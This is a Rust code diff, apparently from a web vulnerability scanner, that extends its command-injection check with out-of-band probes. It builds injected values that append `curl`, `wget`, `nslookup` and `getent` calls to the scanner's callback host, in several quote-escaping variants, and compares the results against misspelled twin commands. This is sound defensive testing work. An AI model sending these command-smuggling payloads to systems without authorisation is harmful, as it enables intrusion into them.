@@ -9,17 +9,24 @@
 //!    chosen lengths in mixed order, zero among them, must each make the answer as late as they say, and the twin (a program that
 //!    nobody has) must not. Then it is firm.
 //!
-//! Nothing but `echo`, `expr`, `set /a` and `sleep` is run.
+//! 5. Who says nothing and is not waited for may still ask somewhere: `curl` or `wget` for an address of the probe's, and with a zone of
+//!    the probe's (`[callback]`) `nslookup` or `getent` for a name in it. All values are sent first and looked for once. Who came for
+//!    the word is asked to come again by another one, and must not come by the twin (programs that nobody has): proven.
+//!
+//! Nothing but `echo`, `expr`, `set /a`, `sleep` and those four is run.
+
+use std::time::Duration;
 
 use gabion_model::outbound::BoxFuture;
 
 use super::reckoning::{Form, Reckoned, reckon};
 use super::waiting::{Waits, waits};
 use super::{Attack, Phase};
-use crate::aim::{Aim, aims};
+use crate::aim::{Aim, Sent, aims};
+use crate::catch::Catch;
 use crate::field::Field;
 use crate::operation::Place;
-use crate::verdict::Verdict;
+use crate::verdict::{Proof, Verdict};
 use crate::wire::WireError;
 
 pub(super) struct CommandInjection;
@@ -42,10 +49,13 @@ impl Attack for CommandInjection {
             if all.is_empty() {
                 field.not_tested(ID, "no operation takes a value");
             }
+            let mut quiet = Vec::new();
             for aim in all {
-                attack(aim).await?;
+                if !attack(aim).await? {
+                    quiet.push(aim);
+                }
             }
-            Ok(())
+            calls(field, &quiet).await
         })
     }
 }
@@ -104,15 +114,16 @@ const APART: &[Form] = &[
 
 const SHELL: &str = "a shell";
 
-async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
+/// Whether a value is decided.
+async fn attack(aim: &Aim<'_>) -> Result<bool, WireError> {
     let mut offended = false;
     for form in TOGETHER {
         match reckon(aim, ID, form, SHELL).await? {
-            Reckoned::Proven => return Ok(()),
+            Reckoned::Proven => return Ok(true),
             // A number that must be one reaches no shell as text.
             Reckoned::Nothing { refused: true } if aim.works && aim.original.parse::<f64>().is_ok() => {
                 aim.field.say(aim.outcome(ID, Verdict::Passed, "only numbers are taken"));
-                return Ok(());
+                return Ok(true);
             }
             Reckoned::Nothing { refused } => offended |= refused && aim.works,
         }
@@ -120,7 +131,7 @@ async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
     if offended && is_free_text(aim) {
         for form in APART {
             if matches!(reckon(aim, ID, form, SHELL).await?, Reckoned::Proven) {
-                return Ok(());
+                return Ok(true);
             }
         }
     }
@@ -129,10 +140,80 @@ async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
         twin: |value, seconds| format!("{value};slepp {seconds};#';slepp {seconds};#\";slepp {seconds};#"),
         who: "a shell",
     };
-    if !waits(aim, ID, &wait).await? {
-        aim.field.say(aim.outcome(ID, Verdict::Passed, "no shell computed what was put into it"));
+    waits(aim, ID, &wait).await
+}
+
+/// How long somebody may take to come, after the last value was sent.
+const LATE: Duration = Duration::from_secs(1);
+
+/// Who asks somewhere behind the answer.
+async fn calls(field: &Field, quiet: &[&Aim<'_>]) -> Result<(), WireError> {
+    let mut sent = Vec::new();
+    if let Some(catch) = &field.catch {
+        for aim in quiet.iter().filter(|aim| is_free_text(aim)) {
+            if let Some((word, one)) = call(aim, catch, PROGRAMS).await? {
+                sent.push((*aim, word, one));
+            }
+        }
+        if let Some((_, word, _)) = sent.last() {
+            catch.met(word, LATE).await;
+        }
+    }
+    for aim in quiet {
+        let own = sent.iter().find(|(own, ..)| std::ptr::eq(*own, *aim));
+        let proven = match (&field.catch, own) {
+            (Some(catch), Some((_, word, one))) => called(aim, catch, word, one).await?,
+            _ => false,
+        };
+        if !proven {
+            aim.field.say(aim.outcome(ID, Verdict::Passed, "no shell computed what was put into it"));
+        }
     }
     Ok(())
+}
+
+/// Programs that ask for an address, and for a name.
+const PROGRAMS: [&str; 4] = ["curl", "wget", "nslookup", "getent"];
+/// Their letters the other way round: nobody has them.
+const NOBODYS: [&str; 4] = ["culr", "wgte", "nslokoup", "getnet"];
+
+/// Has a shell ask for a word of its own.
+async fn call(
+    aim: &Aim<'_>,
+    catch: &Catch,
+    programs: [&str; 4],
+) -> Result<Option<(String, Sent)>, WireError> {
+    let word = Catch::word(&*aim.field.rng);
+    let [curl, wget, nslookup, getent] = programs;
+    let url = catch.url(&word);
+    let mut line = format!("{curl} -s -m 2 {url}||{wget} -q -T 2 -O- {url}");
+    if let Some(names) = catch.names() {
+        let name = names.name(&word);
+        line = format!("{line}||{nslookup} {name}||{getent} hosts {name}");
+    }
+    let text = format!("{};{line};#';{line};#\";{line};#", aim.original);
+    Ok(aim.text(&text).await?.map(|sent| (word, sent)))
+}
+
+async fn called(aim: &Aim<'_>, catch: &Catch, word: &str, first: &Sent) -> Result<bool, WireError> {
+    let Some(line) = catch.met(word, Duration::ZERO).await else { return Ok(false) };
+    let (Some((again, second)), Some((nobody, twin))) =
+        (call(aim, catch, PROGRAMS).await?, call(aim, catch, NOBODYS).await?)
+    else {
+        return Ok(false);
+    };
+    let came = catch.met(&again, LATE.saturating_mul(3)).await;
+    if came.is_none() || catch.met(&nobody, LATE).await.is_some() {
+        return Ok(false);
+    }
+    let proof = Proof::new(
+        aim.evidence(first),
+        format!("`{line}` came to the probe, and came again for another word"),
+    )
+    .twin(aim.evidence(&twin))
+    .shown(aim.evidence(&second));
+    aim.field.say(aim.outcome(ID, Verdict::Proven, "a shell asks for what the value names").proof(proof));
+    Ok(true)
 }
 
 /// Whether the value is one of words: what takes only numbers refuses everything, and need not be asked sign by sign.
